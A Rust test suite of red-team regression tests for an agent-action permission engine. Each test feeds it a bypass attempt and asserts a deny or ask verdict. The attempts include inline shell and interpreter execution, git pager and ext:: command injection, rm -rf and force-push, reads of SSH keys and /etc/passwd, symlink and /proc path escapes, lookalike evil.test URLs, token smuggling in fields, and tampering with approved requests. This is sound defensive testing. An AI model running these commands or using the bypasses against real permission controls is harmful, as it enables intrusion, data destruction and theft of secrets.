//! Red-team regression tests for the decision engine: each test is an attack (named after the
//! bypass it tries) and asserts the secure decision. All of these are stopped today.

mod support;

use std::time::{Duration, SystemTime};

use serde_json::json;
use support::*;
use warrant_policy::{ActionRequest, Verdict, review_at};

#[test]
fn python_versioned_name_with_dash_c_is_denied() {
    argv_is(
        "open",
        &["python3.11", "-c", "print(1)"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn python_glued_and_clustered_dash_c_is_denied() {
    argv_is(
        "open",
        &["python3", "-cimport os"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["python3", "-Ic", "import os"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["python3", "-E", "-s", "-c", "import os"],
        "read_only",
        Verdict::Deny,
    );
    argv_is("open", &["python3", "-"], "read_only", Verdict::Deny);
    argv_is("open", &["python3"], "read_only", Verdict::Deny);
}

#[test]
fn python_dotdot_absolute_path_is_not_on_the_declared_path() {
    argv_is(
        "open",
        &["/usr/bin/../bin/python3", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["./python3", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["/tmp/python3", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn python_absolute_path_with_dash_c_is_denied() {
    argv_is(
        "open",
        &["/usr/bin/python3", "-c", "print(1)"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["/usr/bin/python3.11", "-c", "print(1)"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn python_m_pip_download_is_not_allowed() {
    let (_d, fx) = fixture();
    let d = decide(
        &fx,
        "open",
        run(
            &["python3", "-m", "pip", "download", "requests"],
            "workspace_write",
        ),
    );
    not_allowed(&d, "python3 -m pip download");
    let d = decide(
        &fx,
        "open",
        run(
            &["python3", "-mpip", "install", "requests"],
            "workspace_write",
        ),
    );
    not_allowed(&d, "python3 -mpip install");
}

#[test]
fn node_clustered_pe_runs_inline_code() {
    argv_is(
        "default",
        &["node", "-pe", "require('child_process').execSync('id')"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn node_import_and_require_forms_are_denied() {
    argv_is(
        "default",
        &["node", "--import=./x.mjs", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["node", "--require", "./x.js", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is("default", &["node", "-e", "1"], "read_only", Verdict::Deny);
    argv_is(
        "default",
        &["perl", "-MPOSIX", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is("default", &["perl", "-e", "1"], "read_only", Verdict::Deny);
}

#[test]
fn shells_with_dash_c_forms_are_denied() {
    argv_is(
        "default",
        &["bash", "-lc", "id"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["sh", "-e", "-c", "id"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["/usr/bin/sh", "-c", "id"],
        "read_only",
        Verdict::Deny,
    );
    argv_is("default", &["bash"], "read_only", Verdict::Deny);
}

#[test]
fn awk_system_program_is_denied() {
    argv_is(
        "default",
        &["awk", "BEGIN{system(\"id\")}"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["mawk", "BEGIN{print | \"sh\"}"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn sed_execute_and_write_commands_are_denied() {
    argv_is(
        "default",
        &["sed", "-e", "1e id", "README.md"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["sed", "s/a/b/e", "README.md"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["sed", "s/a/b/w out/x", "README.md"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn wrappers_in_the_list_are_denied_even_when_pinned() {
    argv_is(
        "default",
        &["/usr/bin/env", "python3", "-m", "unittest"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["env", "rm", "-rf", "src"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["timeout", "5", "python3", "scripts/run.py"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "default",
        &["find", ".", "-exec", "id", ";"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn git_listed_destructive_forms_are_denied() {
    argv_is(
        "open",
        &["git", "clean", "-fdx"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "reset", "--hard"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "push", "--force", "origin", "main"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "push", "origin", "+main"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "checkout", "--", "src/app.py"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "restore", "src/app.py"],
        "destructive",
        Verdict::Deny,
    );
}

#[test]
fn destructive_executables_are_denied() {
    argv_is("open", &["rm", "-rf", "out"], "destructive", Verdict::Deny);
    argv_is(
        "open",
        &["truncate", "-s", "0", "README.md"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["find", ".", "-name", "*.py", "-delete"],
        "destructive",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["chmod", "-fR", "777", "src"],
        "destructive",
        Verdict::Deny,
    );
}

#[test]
fn mv_over_a_file_declared_read_only_is_denied() {
    argv_is(
        "open",
        &["mv", "src/app.py", "README.md"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn git_config_injection_forms_are_denied() {
    argv_is(
        "open",
        &["git", "-c", "core.pager=touch pwned", "log"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "-ccore.pager=touch pwned", "log"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "--config-env=core.pager=X", "log"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "--config-env", "core.pager=X", "log"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "--exec-path=/tmp", "log"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "fetch", "--upload-pack=touch pwned", "origin"],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "fetch", "ext::sh -c id", "main"],
        "workspace_write",
        Verdict::Deny,
    );
}

#[test]
fn git_log_output_goes_through_the_path_rules() {
    argv_is(
        "open",
        &["git", "log", "--output=/tmp/x"],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "log", "--output", ".git/hooks/post-checkout"],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "diff", "--output=../outside/x"],
        "workspace_write",
        Verdict::Deny,
    );
}

#[test]
fn git_url_argument_must_be_declared() {
    argv_is(
        "open",
        &["git", "clone", "HTTPS://EVIL.TEST/r.git", "out/r"],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["git", "clone", "git@evil.test:r.git", "out/r"],
        "workspace_write",
        Verdict::Deny,
    );
}

#[test]
fn env_hooks_in_other_cases_are_denied() {
    let (_d, fx) = fixture();
    for name in [
        "ld_preload",
        "Git_Config_Count",
        "git_config_parameters",
        "node_options",
        "Bash_Env",
        "npm_config_script_shell",
        "GIT_PAGER",
        "PAGER",
    ] {
        let mut r = run(&["git", "log"], "read_only");
        r["env"] = json!({ name: "x" });
        denied(&decide(&fx, "open", r), name);
    }
}

#[test]
fn npm_listed_lifecycle_commands_ask() {
    argv_is("open", &["npm", "install"], "workspace_write", Verdict::Ask);
    argv_is(
        "open",
        &["npm", "exec", "evil"],
        "workspace_write",
        Verdict::Ask,
    );
    argv_is("open", &["make"], "workspace_write", Verdict::Ask);
}

#[test]
fn output_option_into_protected_path_is_denied() {
    argv_is(
        "open",
        &[
            "python3",
            "scripts/run.py",
            "--output",
            ".git/hooks/pre-commit",
        ],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &[
            "python3",
            "scripts/run.py",
            "--output=.claude/settings.json",
        ],
        "workspace_write",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["python3", "scripts/run.py", "-o", "../outside/x"],
        "workspace_write",
        Verdict::Deny,
    );
}

#[test]
fn response_file_outside_is_denied() {
    argv_is(
        "open",
        &["python3", "scripts/run.py", "@../outside/secret.txt"],
        "read_only",
        Verdict::Deny,
    );
    argv_is(
        "open",
        &["python3", "scripts/run.py", "@link_out/secret.txt"],
        "read_only",
        Verdict::Deny,
    );
}

#[test]
fn protected_paths_are_denied_through_any_spelling() {
    let (_d, fx) = fixture();
    let ws = fx.workspace.display().to_string();
    for p in [
        ".git/hooks/pre-commit".to_owned(),
        "./.git//hooks/./pre-commit".to_owned(),
        "src/../.git/hooks/pre-commit".to_owned(),
        format!("{ws}/.git/hooks/pre-commit"),
        format!("/proc/self/root{ws}/.git/hooks/pre-commit"),
        "link_inside/../.git/config".to_owned(),
    ] {
        let d = decide(&fx, "open", fs("fs.write", &p, "workspace_write"));
        denied(&d, &p);
    }
    let d = decide(
        &fx,
        "open",
        fs("fs.create", ".claude/agents/x.md", "workspace_write"),
    );
    denied(&d, ".claude/agents/x.md");
    let d = decide(&fx, "open", fs("fs.read", ".ssh/id_rsa", "read_only"));
    denied(&d, "read .ssh/id_rsa");
}

#[test]
fn escapes_through_dotdot_symlinks_and_proc_are_denied() {
    let (_d, fx) = fixture();
    let ws = fx.workspace.display().to_string();
    for p in [
        "../outside/secret.txt".to_owned(),
        "out/../../outside/secret.txt".to_owned(),
        "link_out/secret.txt".to_owned(),
        "src/../link_out/secret.txt".to_owned(),
        "out/escape/secret.txt".to_owned(),
        "missing/../../outside/secret.txt".to_owned(),
        format!("/proc/self/root{ws}/../outside/secret.txt"),
        "/proc/self/cwd/README.md".to_owned(),
        "~/.ssh/id_rsa".to_owned(),
        "/etc/passwd".to_owned(),
        format!("{ws}-evil/x"),
    ] {
        let d = decide(&fx, "open", fs("fs.read", &p, "read_only"));
        denied(&d, &p);
    }
    let d = decide(
        &fx,
        "open",
        fs("fs.create", "out/escape/new.txt", "workspace_write"),
    );
    denied(&d, "create through out/escape");
    let d = decide(
        &fx,
        "open",
        fs("fs.create", "out/new/../../../outside/x", "workspace_write"),
    );
    denied(&d, "dotdot after a missing component");
    let d = decide(
        &fx,
        "open",
        fs("fs.write", "out/link_file", "workspace_write"),
    );
    denied(&d, "write a direct symlink");
}

#[test]
fn cwd_outside_or_symlinked_is_denied() {
    let (_d, fx) = fixture();
    for cwd in ["link_out", "..", "out/escape", "/tmp"] {
        let mut r = fs("fs.read", "secret.txt", "read_only");
        r["cwd"] = json!(cwd);
        denied(&decide(&fx, "open", r), cwd);
    }
    let mut r = fs("fs.write", "../.git/config", "workspace_write");
    r["cwd"] = json!("out");
    denied(&decide(&fx, "open", r), "cwd out + ../.git/config");
}

#[test]
fn network_lookalikes_and_encodings_are_denied() {
    let (_d, fx) = fixture();
    for u in [
        "https://docs.exаmple.test/",
        "https://docs.example.test.evil.test/",
        "https://docs.example.test@evil.test/",
        "https://evil.test#@docs.example.test",
        "https://[::ffff:127.0.0.1]/",
        "https://0.0.0.0/",
        "https://2130706433/",
        "https://0x7f.1/",
        "http://docs.example.test/",
        "https://docs.example.test:8443/",
        "https://registry.example.test/",
        "https://docs.example.test:0/",
        " https://docs.example.test/",
    ] {
        denied(&decide(&fx, "default", fetch(&[u], &[])), u);
    }
}

#[test]
fn redirects_to_other_origins_stop_the_chain() {
    let (_d, fx) = fixture();
    for hop in [
        "//evil.test/x",
        "\\\\evil.test\\x",
        "https://2130706433/",
        "https://0177.0.0.1/",
        "https://[::ffff:7f00:1]/",
        "/%2F%2Fevil.test",
    ] {
        let d = decide(
            &fx,
            "default",
            fetch(&["https://docs.example.test/a"], &[hop]),
        );
        if hop == "/%2F%2Fevil.test" {
            // same origin, a path: fine to follow, still an ask for net.fetch
            assert_eq!(d.verdict, Verdict::Ask, "{hop}: {}", d.reason);
        } else {
            denied(&d, hop);
        }
    }
    let d = decide(
        &fx,
        "default",
        fetch(
            &["https://docs.example.test/a"],
            &["https://evil.test/", "https://docs.example.test/"],
        ),
    );
    denied(&d, "chain continues after an undeclared hop");
}

#[test]
fn internal_addresses_need_their_exact_origin() {
    let (_d, fx) = fixture();
    for u in [
        "https://127.0.0.1/",
        "https://[::ffff:127.0.0.1]:8080/",
        "https://localhost:8080/",
        "https://[fd00::1]:8443/",
        "https://[fd00:0::1]:443/x",
    ] {
        let d = decide(&fx, "internal", fetch(&[u], &[]));
        if u == "https://[fd00:0::1]:443/x" {
            assert_eq!(d.verdict, Verdict::Ask, "{u}: {}", d.reason);
        } else {
            denied(&d, u);
        }
    }
}

#[test]
fn url_in_argv_must_be_declared() {
    let (_d, fx) = fixture();
    let d = decide(
        &fx,
        "open",
        run(
            &["python3", "scripts/run.py", "--url=https://evil.test/x"],
            "read_only",
        ),
    );
    denied(&d, "--url=https://evil.test");
    let mut r = run(
        &["python3", "scripts/run.py", "https://evil.test/x"],
        "read_only",
    );
    r["network"] = json!(["https://docs.example.test/"]);
    denied(&decide(&fx, "open", r), "argv url differs from declared");
}

#[test]
fn secrets_in_scanned_fields_are_denied_and_redacted() {
    let (_d, fx) = fixture();
    let mut cases = vec![];
    let mut r = run(
        &["python3", "scripts/run.py", &format!("--token={GH}")],
        "read_only",
    );
    cases.push(("argv", r.clone()));
    r = run(&["python3", "scripts/run.py"], "read_only");
    r["env"] = json!({"api_key": GH});
    cases.push(("env", r.clone()));
    r = run(&["python3", "scripts/run.py"], "read_only");
    r["reason"] = json!(format!("use {GH}"));
    cases.push(("reason", r.clone()));
    r = fetch(
        &[&format!("https://docs.example.test/?access_token={GH}")],
        &[],
    );
    cases.push(("network", r.clone()));
    r = fetch(
        &["https://docs.example.test/"],
        &[&format!("/x?token={GH}")],
    );
    cases.push(("redirect", r.clone()));
    r = json!({"actor": "skill:t", "capability": "net.fetch", "network": ["https://docs.example.test/"], "payload": format!("Authorization: Bearer {GH}"), "side_effect": "external_write", "idempotency_key": "k"});
    cases.push(("payload", r.clone()));
    for (what, r) in cases {
        let d = decide(&fx, "default", r);
        denied(&d, what);
        let out = format!("{}\n{}\n{:?}", d.to_json(), d.to_text(), d.consequence);
        assert!(!out.contains(GH), "{what}: token echoed: {out}");
    }
}

#[test]
fn secret_in_unscanned_fields_is_not_echoed() {
    let (_d, fx) = fixture();
    let r = json!({"actor": format!("skill:{GH}"), "capability": "fs.create", "paths": [format!("out/{GH}.txt")], "cwd": ".", "side_effect": "workspace_write", "claimed_permissions": [GH], "credentials": [GH], "idempotency_key": GH});
    let d = decide(&fx, "default", r);
    let out = format!("{}\n{}", d.to_json(), d.to_text());
    assert!(!out.contains(GH), "token echoed: {out}");
}

#[test]
fn credentials_never_reach_a_general_process() {
    let (_d, fx) = fixture();
    let mut r = run(&["python3", "scripts/run.py"], "read_only");
    r["credentials"] = json!(["GITHUB_TOKEN"]);
    denied(&decide(&fx, "secrets_ok", r), "credentials on process.run");
}

/// One edit of an approved request.
type Edit = Box<dyn Fn(&mut ActionRequest)>;

#[test]
fn approval_does_not_carry_over_to_changed_requests() {
    let (_d, fx) = fixture();
    let p = policy(&fx, "default");
    let base = json!({"actor": "skill:t", "capability": "tool:publish_release", "payload": "v2 to staging", "side_effect": "external_write", "idempotency_key": "k1"});
    let req = ActionRequest::from_json(&base.to_string()).expect("request");
    let now = SystemTime::now();
    let approved = approve(
        &p,
        &req,
        "alice@example.test",
        now,
        Duration::from_secs(3600),
    );
    assert_eq!(review_at(&p, &approved, now).verdict, Verdict::Allow);
    let edits: Vec<(&str, Edit)> = vec![
        (
            "payload",
            Box::new(|r| r.payload = "v2 to production".into()),
        ),
        (
            "idempotency_key",
            Box::new(|r| r.idempotency_key = Some("k2".into())),
        ),
        ("actor", Box::new(|r| r.actor = "skill:other".into())),
        ("untrusted_input", Box::new(|r| r.untrusted_input = true)),
        (
            "network",
            Box::new(|r| r.network = vec!["https://docs.example.test/".into()]),
        ),
        (
            "credentials",
            Box::new(|r| r.credentials = vec!["PROD_TOKEN".into()]),
        ),
        ("reason", Box::new(|r| r.reason = "other".into())),
        (
            "payload whitespace",
            Box::new(|r| r.payload = "v2 to staging ".into()),
        ),
    ];
    for (what, edit) in edits {
        let mut r = approved.clone();
        edit(&mut r);
        not_allowed(&review_at(&p, &r, now), what);
    }
    // An approval never lifts a deny.
    let mut r = approved.clone();
    r.capability = "policy.change".parse().expect("cap");
    denied(&review_at(&p, &r, now), "policy.change with approval");
}

#[test]
fn approval_for_process_run_does_not_carry_over_to_another_cwd_or_env() {
    let (_d, fx) = fixture();
    let p = policy(&fx, "open");
    let req =
        ActionRequest::from_json(&run(&["make"], "workspace_write").to_string()).expect("request");
    let now = SystemTime::now();
    let approved = approve(
        &p,
        &req,
        "alice@example.test",
        now,
        Duration::from_secs(3600),
    );
    assert_eq!(review_at(&p, &approved, now).verdict, Verdict::Allow);
    let mut r = approved.clone();
    r.cwd = "src".into();
    not_allowed(&review_at(&p, &r, now), "other cwd");
    let mut r = approved.clone();
    r.env.insert("DEBUG".into(), "1".into());
    not_allowed(&review_at(&p, &r, now), "added env");
    let mut r = approved.clone();
    r.argv.push("install".into());
    not_allowed(&review_at(&p, &r, now), "extra argv");
}

#[test]
fn toml_policy_with_duplicate_keys_does_not_load() {
    let (_d, fx) = fixture();
    let text = "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\ncapabilities = [\"process.run\"]\n[paths]\nread = [\".\"]\n";
    assert!(load_text(&fx, "dup.toml", text).is_err());
}

#[test]
fn policy_tricks_do_not_load() {
    let (_d, fx) = fixture();
    for (name, text) in [
        (
            "symroot.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\n[paths]\nread = [\"link_out\"]\n",
        ),
        (
            "symroot2.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\n[paths]\nread = [\"link_out/\"]\n",
        ),
        (
            "dotdot.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\n[paths]\nread = [\"..\"]\n",
        ),
        (
            "missingdotdot.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.create\"]\n[paths]\ncreate = [\"nope/../../outside\"]\n",
        ),
        (
            "origin.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"net.fetch\"]\n[network]\nallow = [\"https://a.test/?\"]\n",
        ),
        (
            "origin2.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"net.fetch\"]\n[network]\nallow = [\"https://a.test/%2e%2e\"]\n",
        ),
        (
            "origin3.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"net.fetch\"]\n[network]\nallow = [\"http://a.test\"]\n",
        ),
        (
            "pc.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"policy.change\"]\n",
        ),
        (
            "relpath.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"process.run\"]\n[commands]\npath = [\"bin\"]\n",
        ),
        (
            "relpin.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"process.run\"]\n[commands]\nallow = [[\"./python3\"]]\n",
        ),
        (
            "str.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = \"fs.read\"\n",
        ),
        (
            "unknown.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\n[paths]\nreed = [\".\"]\n",
        ),
        (
            "dotted.toml",
            "version = 1\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\npaths.read = [\".\"]\n[paths]\nwrite = [\"..\"]\n",
        ),
    ] {
        assert!(
            load_text(&fx, name, text).is_err(),
            "{name} loaded:\n{text}"
        );
    }
    let json = r#"{"version": 1, "workspace": "ws", "capabilities": ["fs.read"], "paths": {"read": ["../outside"]}}"#;
    assert!(load_text(&fx, "out.json", json).is_err());
}

#[test]
fn policy_with_unknown_version_does_not_load() {
    let (_d, fx) = fixture();
    let text =
        "version = 2\nworkspace = \"ws\"\ncapabilities = [\"fs.read\"]\n[paths]\nread = [\".\"]\n";
    assert!(load_text(&fx, "v2.toml", text).is_err());
}

#[test]
fn odd_argv_never_panics_and_decides_deterministically() {
    let (_d, fx) = fixture();
    for argv in [
        vec!["-"],
        vec![""],
        vec!["python3", "-\u{e9}"],
        vec!["python3", "-\u{10FFFF}c"],
        vec!["git", "-C"],
        vec!["git", "-c"],
        vec!["sed", "-e"],
        vec!["awk", "-v"],
        vec!["sed", "s\u{e9}a\u{e9}b\u{e9}e"],
        vec!["python3", "-m"],
        vec!["npm", "--"],
        vec!["\u{202e}nohtyp"],
        vec!["tar", "-"],
        vec!["/"],
        vec!["//usr/bin/python3", "-c", "1"],
    ] {
        let first = std::panic::catch_unwind(|| decide(&fx, "open", run(&argv, "read_only")))
            .unwrap_or_else(|_| panic!("{argv:?} panicked"));
        let second = decide(&fx, "open", run(&argv, "read_only"));
        assert_eq!(first.verdict, second.verdict, "{argv:?}");
        assert_eq!(first.request_hash, second.request_hash, "{argv:?}");
        if argv[0].is_empty()
            || argv[0] == "/"
            || argv[0] == "-"
            || argv[0].starts_with("//")
            || argv[0].starts_with('\u{202e}')
        {
            denied(&first, &format!("{argv:?}"));
        }
    }
}

#[test]
fn approval_cannot_lift_a_hard_deny_even_when_minted_for_it() {
    let (_d, fx) = fixture();
    let p = policy(&fx, "open");
    let req = ActionRequest::from_json(&run(&["rm", "-rf", "out"], "destructive").to_string())
        .expect("request");
    let now = SystemTime::now();
    let r = approve(
        &p,
        &req,
        "alice@example.test",
        now,
        Duration::from_secs(3600),
    );
    denied(&review_at(&p, &r, now), "rm -rf with an approval");
}

#[test]
fn untrusted_input_on_an_allowlisted_process_asks() {
    let (_d, fx) = fixture();
    let mut r = run(&["python3", "scripts/run.py"], "read_only");
    r["untrusted_input"] = json!(true);
    let d = decide(&fx, "default", r);
    assert_eq!(d.verdict, Verdict::Ask, "{} ({})", d.rule, d.reason);
    assert_eq!(d.rule, "untrusted-input");
}

#[test]
fn duplicate_keys_in_the_request_are_invalid_input() {
    let raw = r#"{"actor":"skill:t","capability":"fs.read","capability":"process.run","argv":["python3","-c","1"],"paths":["README.md"],"side_effect":"read_only"}"#;
    assert!(
        ActionRequest::from_json(raw).is_err(),
        "last-wins duplicate keys"
    );
}

#[test]
fn capability_spelling_tricks_are_invalid_or_denied() {
    let (_d, fx) = fixture();
    for cap in [
        "tool:publish_release ",
        "TOOL:publish_release",
        "tool:publish_release\u{200b}",
        "FS.READ",
    ] {
        let r = json!({"actor": "skill:t", "capability": cap, "side_effect": "read_only"});
        assert!(
            ActionRequest::from_json(&r.to_string()).is_err(),
            "{cap:?} parsed"
        );
    }
    let d = decide(
        &fx,
        "default",
        json!({"actor": "skill:t", "capability": "tool:Publish_Release", "side_effect": "read_only"}),
    );
    denied(&d, "tool:Publish_Release");
}
